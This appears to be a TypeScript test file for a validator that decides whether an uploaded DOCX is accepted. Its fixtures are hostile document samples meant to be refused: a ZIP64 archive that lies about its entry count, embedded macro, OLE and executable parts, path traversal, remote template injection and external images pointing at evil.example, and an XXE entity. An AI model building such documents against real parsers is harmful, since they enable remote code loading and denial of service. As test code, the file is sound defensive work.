import { expectSteadyGrowth } from '../../../test/kit/asserts.js';
import { aDocx } from '../../../test/kit/files.js';
import { knownType } from './file-type.js';

const isTaken = async (bytes: Buffer): Promise<boolean> => (await knownType(bytes)) !== null;
const relations = (...lines: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`;
const relation = (kind: string, more: string) =>
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" ${more}/>`;

/** Says in its end, and in the larger kind's, that it has four thousand million parts, each nothing. */
function aLyingArchive(): Buffer {
  const whole = aDocx();
  const end = whole.subarray(whole.length - 22);
  const body = whole.subarray(0, whole.length - 22);
  const larger = Buffer.alloc(56);
  larger.writeUInt32LE(0x06064b50, 0);
  larger.writeBigUInt64LE(44n, 4);
  larger.writeBigUInt64LE(4_294_967_294n, 24);
  larger.writeBigUInt64LE(4_294_967_294n, 32);
  larger.writeBigUInt64LE(BigInt(end.readUInt32LE(16)), 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(BigInt(body.length), 8);
  const last = Buffer.from(end);
  last.writeUInt16LE(0xffff, 8);
  last.writeUInt16LE(0xffff, 10);
  last.writeUInt32LE(0xffffffff, 16);
  return Buffer.concat([body, larger, locator, last]);
}

test('an archive that lies about how many parts it has is refused at once', async () => {
  const lying = aLyingArchive();
  const names = Array.from({ length: 5_001 }, (_, n) => `word/p${n}.xml`);
  const many = aDocx(Object.fromEntries(names.map((name) => [name, ''])));
  const head = aDocx().subarray(0, 30);
  expect(await isTaken(lying)).toBe(false);
  expect(await isTaken(many)).toBe(false);
  await expectSteadyGrowth(200_000, (length) =>
    isTaken(Buffer.concat([Buffer.alloc(length * head.length, head), aDocx()])),
  );
});

test('a document that says it holds macros, or is a template, is refused', async () => {
  const types = (kind: string) =>
    `<Types><Override PartName="/word/document.xml" ContentType="${kind}"/></Types>`;
  const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
  expect(await isTaken(aDocx({ '[Content_Types].xml': types(`${word}.document.main+xml`) }))).toBe(true);
  expect(await isTaken(aDocx({ '[Content_Types].xml': types(`${word}.template.main+xml`) }))).toBe(false);
  const macros = 'application/vnd.ms-word.document.macroEnabled.main+xml';
  expect(await isTaken(aDocx({ '[Content_Types].xml': types(macros) }))).toBe(false);
});

test('a document as programs write it is taken, with what it links to', async () => {
  expect(
    await isTaken(
      aDocx({
        '_rels/.rels': relations(relation('officeDocument', 'Target="word/document.xml"')),
        'docProps/app.xml': '<a/>',
        'word/_rels/document.xml.rels': relations(
          relation('styles', 'Target="styles.xml" TargetMode="Internal"'),
          relation('hyperlink', 'Target="https://a.example/?b=1&amp;c=2" TargetMode="External"'),
        ),
        'word/media/image1.png': 'png',
        'word/theme/theme1.xml': '<a/>',
        'word/styles.xml': '<a/>',
        'customXml/_rels/item1.xml.rels': relations(),
        'customXml/item1.xml': '<a/>',
      }),
    ),
  ).toBe(true);
});

test.each([
  'word/embeddings/oleObject1.bin',
  'word/embeddings/sheet.xlsx',
  'word/vbaProject.bin',
  'word/vbaData.xml',
  'word/activeX/activeX1.xml',
  'word/afchunk.htm',
  'word/media/run.exe',
  '../word/styles.xml',
  'WORD/DOCUMENT.XML',
])('a document with %s is refused', async (name) => {
  expect(await isTaken(aDocx({ [name]: 'x' }))).toBe(false);
});

test.each([
  relations(relation('attachedTemplate', 'Target="https://evil.example/t.dotm" TargetMode="External"')),
  relations(relation('image', `TargetMode='External' Target='https://evil.example/p.png'`)),
  relations(relation('image', `Target="a > Type='x/hyperlink'" TargetMode="External"`)),
  relations(relation('image', 'Target="x" TargetMode="&#69;xternal"')),
  relations(relation('image', 'Target="x" TargetMode = "External"').replace('<R', '<pkg:R')),
  `<!DOCTYPE a [<!ENTITY e SYSTEM "https://evil.example">]>${relations()}`,
  relations().slice(0, -3),
  Buffer.from(relations(relation('image', 'TargetMode="External"')), 'utf16le').toString('latin1'),
  `${' '.repeat(1_048_577)}${relations()}`,
])('a document that fetches from elsewhere is refused: %#', async (text) => {
  expect(await isTaken(aDocx({ 'word/_rels/settings.xml.rels': text }))).toBe(false);
});
